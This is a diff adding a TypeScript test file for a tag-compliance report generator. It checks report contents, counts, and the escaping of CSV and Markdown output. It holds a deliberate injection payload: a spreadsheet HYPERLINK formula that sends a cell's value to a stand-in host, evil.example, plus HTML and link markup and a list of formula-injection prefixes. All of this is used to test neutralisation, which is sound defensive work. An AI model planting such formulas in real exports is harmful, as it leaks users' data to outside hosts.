@@ -1,0 +1,190 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { Coverage } from '../../inventory/coverage.ts';
+import { compilePolicy } from '../../policy/compile-policy.ts';
+import { readPolicy } from '../../policy/read-policy.ts';
+import { estate, POLICY_TEXT, resourceOf } from '../arbitraries.fixture.ts';
+import { evaluate } from '../evaluate.ts';
+import { recommend } from '../recommendations.ts';
+import { neutralize, reportAsCsv } from './csv.ts';
+import { reportAsJson } from './json.ts';
+import { escapeMarkdown, reportAsMarkdown } from './markdown.ts';
+import { buildReport, type Report, reportSchema } from './report.ts';
+
+const reading = readPolicy(POLICY_TEXT, 'policy.yaml');
+if ('problems' in reading) throw new Error(reading.message);
+const policy = compilePolicy(reading.policy);
+const coverage: Coverage = {
+  entries: [
+    { account: '1', region: 'eu-west-1', types: ['*'], status: 'complete', resources: 3 },
+    {
+      account: '1',
+      region: 'us-east-1',
+      types: ['ec2:volume'],
+      status: 'missing',
+      reason: 'access_denied',
+      detail: 'ec2:DescribeVolumes',
+      resources: 0,
+    },
+  ],
+  isComplete: false,
+};
+
+type Estate = Parameters<typeof evaluate>[0] extends Iterable<infer R> ? R[] : never;
+
+function reportOn(list: Estate, parts: { costs?: Map<string, string>; list?: number; isSample?: boolean } = {}): Report {
+  const { costs, isSample = false } = parts;
+  const evaluation = evaluate(list, policy, costs && { costs });
+  return buildReport({
+    evaluation,
+    coverage,
+    asOf: '2026-03-01T00:00:00Z',
+    now: new Date('2026-03-01T01:00:00Z'),
+    policyVersion: policy.version,
+    isSample,
+    scope: 'types=* regions=* accounts=* severity=all',
+    ...(costs && { costs: { byArn: costs, currency: 'USD' } }),
+    recommendations: recommend({ resources: list, violations: evaluation.violations, policy, ...(costs && { costs }) }),
+    ...(parts.list !== undefined && { list: parts.list }),
+  });
+}
+
+/** Reads RFC 4180 as strictly as it is written: cells quoted or empty, quotes doubled, CRLF behind every line. */
+function readCsv(text: string): Record<string, string>[] {
+  const cell = /(?:"((?:[^"]|"")*)")?(,|\r\n)/y;
+  const rows: string[][] = [[]];
+  while (cell.lastIndex < text.length) {
+    const match = cell.exec(text);
+    if (match === null) throw new Error('This is not CSV as RFC 4180 wants it.');
+    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'));
+    if (match[2] !== ',' && cell.lastIndex < text.length) rows.push([]);
+  }
+  const [head = [], ...body] = rows;
+  for (const row of body) expect(row).toHaveLength(head.length);
+  return body.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ''])));
+}
+
+const EVIL = '=HYPERLINK("http://evil.example/?"&A1)|<img src=x>\n| [click](http://evil.example)';
+const evil = [
+  resourceOf({ arn: 'arn:aws:s3:::x', tags: { Environment: EVIL, Owner: 'jane', CostCenter: 'CC-1000', 'tempo"': '@SUM(1)' } }),
+];
+
+describe('a report', () => {
+  it('says when, by which policy, of what, how completely, and whether it is sample data', () => {
+    const report = reportOn(evil, { isSample: true });
+    expect(reportSchema.parse(report)).toEqual(report);
+    for (const text of [reportAsMarkdown(report), reportAsCsv(report), reportAsJson(report)]) {
+      expect(text).toContain('2026-03-01T00:00:00Z');
+      expect(text).toContain(policy.version);
+      expect(text.toLowerCase()).toMatch(/sample/);
+      expect(text).toContain('Not everything that was asked for was seen');
+      expect(text).toContain('ec2:DescribeVolumes');
+    }
+    expect(reportAsMarkdown(reportOn(evil))).not.toContain('Sample');
+  });
+
+  it('ranks by count and by cost', () => {
+    const list = [
+      resourceOf({ arn: 'a', type: 'rds:db', tags: {} }),
+      resourceOf({ arn: 'b', type: 'rds:db', tags: {} }),
+      resourceOf({ arn: 'c', type: 'rds:db', tags: { CostCenter: 'CC-1', tempo: 'x' } }),
+      resourceOf({ arn: 'd', type: 'rds:db', tags: { CostCenter: 'CC-1' } }),
+    ];
+    const report = reportOn(list, { costs: new Map([['c', '9.99']]) });
+    expect(report.by_count.map(({ kind, violations }) => [kind, violations])).toEqual([
+      ['invalid_format', 2],
+      ['missing_required_tag', 2],
+      ['prohibited_key', 1],
+    ]);
+    expect(report.by_cost?.map(({ kind, monthly_cost }) => [kind, monthly_cost])).toEqual([
+      ['invalid_format', '9.99'],
+      ['prohibited_key', '9.99'],
+      ['missing_required_tag', null],
+    ]);
+    expect(reportOn(list).by_cost).toBeNull();
+  });
+
+  it('lists as many violations as it may and says how many it does not', () => {
+    const report = reportOn([resourceOf({}), resourceOf({})], { list: 1 });
+    expect([report.violations.length, report.left_out, report.summary.violations]).toEqual([1, 5, 6]);
+    expect(reportAsMarkdown(report)).toContain('And 5 more.');
+  });
+
+  it('has the counts of the scan, in every form', () => {
+    fc.assert(
+      fc.property(estate, fc.nat(40), ({ list, costs }, limit) => {
+        const report = reportOn(list, { costs, list: limit });
+        const { summary } = evaluate(list, policy, { costs });
+        expect(report.summary).toEqual(summary);
+        expect(report.violations.length + report.left_out).toBe(summary.violations);
+        for (const ranking of [report.by_count, report.by_cost ?? report.by_count]) {
+          expect(ranking.reduce((sum, { violations }) => sum + violations, 0)).toBe(summary.violations);
+        }
+        expect(JSON.parse(reportAsJson(report))).toEqual(report);
+        const rows = readCsv(reportAsCsv(report));
+        const fact = (name: string) => rows.find(({ section, kind }) => section === 'about' && kind === name)?.text;
+        expect(rows.filter(({ section }) => section === 'violation')).toHaveLength(report.violations.length);
+        expect([fact('violations'), fact('compliant'), fact('non_compliant'), fact('in_scope')]).toEqual(
+          [summary.violations, summary.compliant, summary.non_compliant, summary.in_scope].map(String),
+        );
+        expect(reportAsMarkdown(report)).toContain(
+          `| Violations | ${summary.violations} (${summary.errors} errors, ${summary.warnings} warnings) |`,
+        );
+      }),
+    );
+  });
+});
+
+describe('CSV', () => {
+  it.each([
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1',
+    '\rx',
+    ' =1',
+    '\u00a0=1',
+    '\u200b@x',
+    '\ufeff+1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠x',
+    '\n=1',
+  ])('makes %j harmless', (cell) => {
+    expect(neutralize(cell)).toBe(`'${cell}`);
+  });
+
+  it.each(['prod', '-5', '-5.25', '12', 'a=b', '', "'=1", '2026-01-01'])('leaves %j as it is', (cell) => {
+    expect(neutralize(cell)).toBe(cell);
+  });
+
+  it('carries text from tags as text', () => {
+    const rows = readCsv(reportAsCsv(reportOn(evil)));
+    expect(rows).toContainEqual(expect.objectContaining({ section: 'violation', tag: 'Environment', current_value: `'${EVIL}` }));
+    expect(rows).toContainEqual(expect.objectContaining({ kind: 'prohibited_key', found: 'tempo"', current_value: "'@SUM(1)" }));
+  });
+});
+
+describe('Markdown', () => {
+  it('carries text from tags as text, in one cell', () => {
+    const text = reportAsMarkdown(reportOn(evil));
+    expect(text).not.toContain('<img');
+    const row = text.split('\n').find((line) => line.includes('HYPERLINK') && line.startsWith('|')) ?? '';
+    expect(row.replaceAll('\\|', '').split('|')).toHaveLength(7);
+    expect(row).toContain('\\[click\\](http');
+  });
+
+  it('escapes whatever could be markup', () => {
+    expect(escapeMarkdown('a|b\r\n`c` *d* _e_ <b>&amp; ![x](y) \\')).toBe(
+      'a\\|b \\`c\\` \\*d\\* \\_e\\_ &lt;b&gt;&amp;amp; \\!\\[x\\](y) \\\\',
+    );
+  });
+
+  it('shows 100.0 % only for what is wholly compliant', () => {
+    const right = { CostCenter: 'CC-1000', Environment: 'staging', Owner: 'x' };
+    const list = [...Array.from({ length: 9999 }, () => resourceOf({ tags: right })), resourceOf({ tags: {} })];
+    expect(reportAsMarkdown(reportOn(list))).toContain('| Score (compliant of those in scope) | 99.9 % |');
+  });
+});
